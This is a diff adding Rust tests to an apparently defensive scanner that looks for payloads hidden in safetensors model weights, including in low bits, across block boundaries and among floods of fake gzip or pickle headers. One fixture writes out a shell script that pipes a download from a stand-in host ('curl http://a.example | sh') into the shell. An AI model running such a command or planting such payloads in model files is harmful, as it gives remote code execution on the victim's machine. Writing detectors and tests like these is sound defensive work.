@@ -370,3 +370,157 @@ fn no_cut_of_a_checkpoint_breaks_it() {
         survives_truncation(name, &file);
     }
 }
+
+/// Where blocks meet, and bits that start at no whole byte of the stream they make.
+#[test]
+fn a_payload_in_low_bits_is_seen_wherever_it_starts() {
+    let payload = b"#!/bin/sh\ncurl http://a.example | sh\n";
+    // Elements of 4 bytes: the first block ends at element 65,536.
+    for start in [0_usize, 1, 3, 65_520, 65_536 - 2048 - 5, 65_541] {
+        for bits in [1_usize, 2, 4, 8, 16, 24] {
+            let mut data = values(140_000);
+            let mut value = data.chunks_exact_mut(4).skip(start);
+            if bits >= 8 {
+                for part in payload.chunks(bits / 8) {
+                    value.next().unwrap()[..part.len()].copy_from_slice(part);
+                }
+            } else {
+                let mask = (1_u8 << bits) - 1;
+                for byte in payload {
+                    for part in (0..8 / bits).rev() {
+                        let low = &mut value.next().unwrap()[0];
+                        *low = *low & !mask | (byte >> (part * bits)) & mask;
+                    }
+                }
+            }
+            let found = scanned("F32", 4, &data);
+            assert!(
+                found
+                    .tensor_signs
+                    .iter()
+                    .any(|sign| sign.kind == TensorSignKind::LowBitPayload
+                        && sign.detail.contains("a script")),
+                "{bits} bits from value {start}: {:?}",
+                found.tensor_signs
+            );
+        }
+    }
+}
+
+#[test]
+fn a_payload_across_blocks_is_seen_once() {
+    for (title, payload) in payloads() {
+        for at in [
+            super::BLOCK - payload.len() / 2,
+            super::BLOCK - super::OVERLAP - 3,
+            2 * super::BLOCK - 5,
+        ] {
+            let mut data = values(140_000);
+            data.splice(at..at + payload.len(), payload.iter().copied());
+            let found = scanned("F32", 4, &data);
+            assert_eq!(
+                kinds(&found),
+                [TensorSignKind::Payload],
+                "{title} at {at}: {:?}",
+                found.tensor_signs
+            );
+        }
+    }
+}
+
+#[test]
+fn a_flood_of_beginnings_hides_nothing() {
+    // More than are tried out of one block, each with a plausible head and nothing behind it.
+    for (mark, title) in [
+        (&b"\x1f\x8b\x08\0\0\0\0\0\0\x03\xff\xff"[..], "gzip data"),
+        (b"\x80\x04\x95\x20\0\0\0\0\0\0\0\xff", "a Python pickle"),
+    ] {
+        let found = scanned("F32", 4, &mark.repeat(4000));
+        assert!(
+            found
+                .tensor_signs
+                .iter()
+                .any(|sign| sign.detail.contains(title)),
+            "{title}"
+        );
+    }
+    // Marks that fit nothing do not use up the search.
+    let mut data = b"#!/\x01".repeat(50_000);
+    data.splice(190_000..190_000 + ELF.len(), ELF.iter().copied());
+    assert_eq!(kinds(&scanned("F32", 4, &data)), [TensorSignKind::Payload]);
+}
+
+/// A source that counts how often it is asked.
+struct Counting<'a> {
+    bytes: &'a [u8],
+    reads: std::cell::Cell<usize>,
+}
+
+impl crate::Source for Counting<'_> {
+    fn len(&self) -> u64 {
+        self.bytes.len() as u64
+    }
+
+    fn read_at(&self, offset: u64, buffer: &mut [u8]) -> std::io::Result<usize> {
+        self.reads.set(self.reads.get() + 1);
+        crate::Bytes(self.bytes).read_at(offset, buffer)
+    }
+}
+
+/// Many tensors, each where `place` says, in a file with `data`.
+fn many(tensors: usize, place: impl Fn(usize) -> (usize, usize), data: &[u8]) -> Vec<u8> {
+    let entries: Vec<String> = (0..tensors)
+        .map(|tensor| {
+            let (from, to) = place(tensor);
+            let size = to - from;
+            format!(r#""{tensor}":{{"dtype":"U8","shape":[{size}],"data_offsets":[{from},{to}]}}"#)
+        })
+        .collect();
+    let header = format!("{{{}}}", entries.join(","));
+    let mut file = (header.len() as u64).to_le_bytes().to_vec();
+    file.extend(header.as_bytes());
+    file.extend(data);
+    file
+}
+
+#[test]
+fn many_small_tensors_cost_few_reads_and_overlapping_ones_few_bytes() {
+    let interests = crate::Interests::default();
+    let scan = |bytes: &[u8]| {
+        let options = crate::Options {
+            limits: crate::Limits {
+                tensor_bytes: u64::MAX,
+                ..crate::Limits::default()
+            },
+            hash: false,
+            interests: &interests,
+        };
+        let source = Counting {
+            bytes,
+            reads: std::cell::Cell::new(0),
+        };
+        let report = crate::scan("m.safetensors", &source, &options);
+        (report, source.reads.get())
+    };
+    let mut data = values(25_000);
+    data.splice(70_000..70_000 + ELF.len(), ELF.iter().copied());
+    let small = many(4000, |tensor| (tensor * 25, tensor * 25 + 25), &data);
+    let (report, reads) = scan(&small);
+    assert!(reads < 100, "{reads}");
+    assert_eq!(
+        kinds(&crate::testing::artifact_of(&report)),
+        [TensorSignKind::Payload],
+        "tensor 2800 is the program"
+    );
+    let over = many(2000, |_| (0, 100_000), &data);
+    let (report, _) = scan(&over);
+    assert!(
+        report.coverage.bytes_read < 4 * over.len() as u64,
+        "{}",
+        report.coverage.bytes_read
+    );
+    let is_said = report.facts.iter().any(|(_, fact)| {
+        matches!(fact, stance_core::Fact::Gap(gap) if gap.detail.contains("lie over others"))
+    });
+    assert!(is_said, "what was passed over is said");
+}
